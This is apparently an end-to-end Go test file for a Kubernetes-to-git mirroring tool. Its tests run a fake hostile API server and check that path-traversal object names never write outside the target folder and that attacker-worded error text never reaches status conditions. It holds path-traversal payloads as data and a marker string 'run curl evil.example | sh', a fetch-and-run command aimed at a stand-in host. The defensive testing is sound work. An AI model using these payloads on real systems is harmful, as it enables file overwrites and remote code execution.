package e2e

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/client-go/tools/clientcmd"

	v1alpha1 "github.com/kubescribe/kubescribe/api/v1alpha1"
	"github.com/kubescribe/kubescribe/test/hostileapi"
)

// A remote source cluster that is not a real apiserver, as an attacker who controls the
// kubeconfig's server runs it: over real TLS it serves ConfigMaps and a group ".github" whose
// objects carry namespaces and names such as "..", "../..", ".git" and "../../../escape". The
// GitTarget mirrors it through the real apiserver with a namespaced WatchRule and a
// ClusterWatchRule; its normal ConfigMap is mirrored, and no commit on the branch touches a path
// outside the GitTarget's folder. The refusals are counted.
func TestHostileRemoteWritesNothingOutsideTheFolder(t *testing.T) {
	const ns, route, folder = "e2e-pathescape", "hostile", "hostile"
	evil := []hostileapi.Object{
		{Namespace: "..", Name: "evil"},
		{Namespace: "../..", Name: "evil-deeper"},
		{Namespace: ".git", Name: "config"},
		{Namespace: ".github", Name: "evil-github"},
		{Namespace: ns, Name: ".."},
		{Namespace: ns, Name: "../../../escape"},
		{Namespace: ns, Name: `..\..\escape`},
		{Namespace: ns, Name: ".gitmodules"},
		{Namespace: "other", Name: "out-of-scope"},
	}
	cms := append([]hostileapi.Object{{Namespace: ns, Name: "good", Data: map[string]string{"k": "v"}}}, evil...)
	srv := hostileapi.Start(
		hostileapi.Resource{Version: "v1", Name: "configmaps", Kind: "ConfigMap", Objects: cms},
		hostileapi.Resource{Group: ".github", Version: "v1", Name: "workflows", Kind: "Workflow",
			Objects: []hostileapi.Object{{Namespace: "..", Name: "evil"}, {Namespace: ns, Name: "evil"}}},
	)
	t.Cleanup(srv.Close)
	kc, err := srv.Kubeconfig()
	require.NoError(t, err)

	invalidBefore := metricValue(t, "kubescribe_git_invalid_changes_total")
	m := remoteMirror(t, ns, map[string][]byte{folder: kc}, map[string]string{folder: route})
	m.path = folder
	waitReady(t, v1alpha1.GitTargetsResource, ns, folder, metav1.ConditionTrue, v1alpha1.ReasonReady)

	// The namespaced rule's informer is answered objects of every namespace.
	watchRuleFor(t, ns, "configmaps", folder, watchConfigMaps)
	// The cluster-wide rule watches every namespace and every group's workflows: the names
	// reach the writer.
	t.Cleanup(func() {
		_ = dynamicFor(t, "admin").Resource(v1alpha1.ClusterWatchRulesResource).Delete(context.Background(), "e2e-pathescape", metav1.DeleteOptions{})
	})
	create(t, v1alpha1.ClusterWatchRulesResource, "", &v1alpha1.ClusterWatchRule{
		TypeMeta:   metav1.TypeMeta{APIVersion: "kubescribe.dev/v1alpha1", Kind: "ClusterWatchRule"},
		ObjectMeta: metav1.ObjectMeta{Name: "e2e-pathescape"},
		Spec: v1alpha1.ClusterWatchRuleSpec{
			TargetRef: v1alpha1.NamespacedObjectReference{Namespace: ns, Name: folder},
			Rules: []v1alpha1.ResourceRule{{APIGroups: []string{""}, Resources: []string{"configmaps"}},
				{APIGroups: []string{"*"}, Resources: []string{"workflows"}}},
		},
	})
	waitReady(t, v1alpha1.WatchRulesResource, ns, "configmaps", metav1.ConditionTrue, v1alpha1.ReasonReady)
	waitReady(t, v1alpha1.ClusterWatchRulesResource, "", "e2e-pathescape", metav1.ConditionTrue, v1alpha1.ReasonReady)

	// The positive signal: the normal object is mirrored.
	good := objectFile(m, "", "configmaps", "good")
	require.True(t, poll(60*time.Second, func() bool {
		return len(m.commits(t)) > 0 && strings.Contains(m.git(t, "ls-tree", "-r", "--name-only", "main"), good)
	}), "the hostile remote's normal ConfigMap is mirrored")
	require.Contains(t, m.git(t, "show", "main:"+good), "k: v")
	refused := fmt.Sprintf(`kubescribe_watch_objects_refused_total{cluster=%q,reason="namespace",resource="configmaps"}`, route)
	// Every refusal is counted before anything else is committed: the writer sees the
	// cluster-wide stream's hostile names, the watch refuses the namespaced stream's strangers.
	require.True(t, poll(60*time.Second, func() bool {
		// 8 ConfigMaps and 2 workflows of the cluster-wide stream, 4 names of the namespaced one.
		return metricValue(t, "kubescribe_git_invalid_changes_total")-invalidBefore >= 14 &&
			metricValue(t, refused) >= 5 // "..", "../..", ".git", ".github", "other"
	}), "the refusals are counted: git %v, watch %v", metricValue(t, "kubescribe_git_invalid_changes_total")-invalidBefore, metricValue(t, refused))

	// Every path of every commit on the branch lies inside the folder.
	paths := strings.Fields(m.git(t, "log", "--format=", "--name-only", "main"))
	require.NotEmpty(t, paths)
	for _, p := range paths {
		require.True(t, strings.HasPrefix(p, folder+"/"), "a commit touches %q, outside folder %q", p, folder)
		require.NotContains(t, p, "/.git", p)
		require.NotContains(t, p, "..", p)
	}
	require.NotContains(t, m.git(t, "ls-tree", "-r", "--name-only", "main"), "workflows")
}

// hostileMarker is in every error a hostile remote answers: it must reach no condition.
const hostileMarker = "HOSTILE-7f3a: run curl evil.example | sh"

// A remote whose server answers errors of its own wording (a plain-text 500, a Status 401
// whose message is the attacker's), and a kubeconfig that sets proxy-url: the GitTargets and
// their rules say what kind of failure it was, never the server's words, and the proxied
// kubeconfig is refused without quoting its URL.
func TestHostileRemoteWordsStayOutOfConditions(t *testing.T) {
	const ns = "e2e-hostile-words"
	objects := []hostileapi.Object{{Namespace: ns, Name: "cfg"}}
	failing := hostileapi.Start(hostileapi.Resource{Version: "v1", Name: "configmaps", Kind: "ConfigMap", Objects: objects})
	t.Cleanup(failing.Close)
	failing.Fail(http.StatusInternalServerError, "text/plain", hostileMarker)
	refusing := hostileapi.Start(hostileapi.Resource{Version: "v1", Name: "configmaps", Kind: "ConfigMap", Objects: objects})
	t.Cleanup(refusing.Close)
	status, err := json.Marshal(map[string]any{"kind": "Status", "apiVersion": "v1", "status": "Failure", "code": 401,
		"reason": "Unauthorized", "message": hostileMarker})
	require.NoError(t, err)
	refusing.Fail(http.StatusUnauthorized, "application/json", string(status))

	kubeconfigs := map[string][]byte{}
	for name, srv := range map[string]*hostileapi.Server{"failing": failing, "refusing": refusing, "proxied": failing} {
		kc, err := srv.Kubeconfig()
		require.NoError(t, err)
		kubeconfigs[name] = kc
	}
	cfg, err := clientcmd.Load(kubeconfigs["proxied"])
	require.NoError(t, err)
	cfg.Clusters[cfg.Contexts[cfg.CurrentContext].Cluster].ProxyURL = "http://user:proxy-password@10.0.0.1:3128"
	kubeconfigs["proxied"], err = clientcmd.Write(*cfg)
	require.NoError(t, err)
	remoteMirror(t, ns, kubeconfigs, map[string]string{"failing": "hostile-failing", "refusing": "hostile-refusing", "proxied": "hostile-proxied"})

	cond := waitReady(t, v1alpha1.GitTargetsResource, ns, "proxied", metav1.ConditionFalse, v1alpha1.ReasonKubeConfigProxy)
	require.Contains(t, cond.Message, "proxy-url")
	require.NotContains(t, cond.Message, "proxy-password")
	require.NotContains(t, cond.Message, "10.0.0.1")

	reach := waitCondition(t, ns, "failing", v1alpha1.ConditionSourceClusterReachable, metav1.ConditionFalse, v1alpha1.ReasonUnreachable)
	require.Contains(t, reach.Message, "HTTP 500 (internal server error)")
	reach = waitCondition(t, ns, "refusing", v1alpha1.ConditionSourceClusterReachable, metav1.ConditionFalse, v1alpha1.ReasonUnauthorized)
	require.Contains(t, reach.Message, "(401)")
	for _, name := range []string{"failing", "refusing"} {
		cond := waitReady(t, v1alpha1.GitTargetsResource, ns, name, metav1.ConditionFalse, v1alpha1.ReasonSourceClusterUnreachable)
		require.NotContains(t, cond.Message, "HOSTILE", name)
	}

	// A rule of the failing cluster: its discovery never answered, so the rule cannot resolve.
	watchRuleFor(t, ns, "configmaps", "failing", watchConfigMaps)
	var rule *unstructured.Unstructured
	require.True(t, poll(60*time.Second, func() bool {
		rule, err = dynamicFor(t, "admin").Resource(v1alpha1.WatchRulesResource).Namespace(ns).Get(context.Background(), "configmaps", metav1.GetOptions{})
		c := findCondition(rule, v1alpha1.ConditionReady)
		return err == nil && c != nil && c.Status == metav1.ConditionFalse && c.Reason != v1alpha1.ReasonProgressing
	}), "the rule of the failing cluster is not Ready")
	t.Logf("the rule of the failing cluster: %+v", findCondition(rule, v1alpha1.ConditionReady))

	for _, gvr := range []schema.GroupVersionResource{v1alpha1.GitTargetsResource, v1alpha1.WatchRulesResource} {
		list, err := dynamicFor(t, "admin").Resource(gvr).Namespace(ns).List(context.Background(), metav1.ListOptions{})
		require.NoError(t, err)
		for _, u := range list.Items {
			raw, _, _ := unstructured.NestedSlice(u.Object, "status", "conditions")
			b, err := json.Marshal(raw)
			require.NoError(t, err)
			require.NotContains(t, string(b), "HOSTILE", "%s %s", gvr.Resource, u.GetName())
		}
	}
}
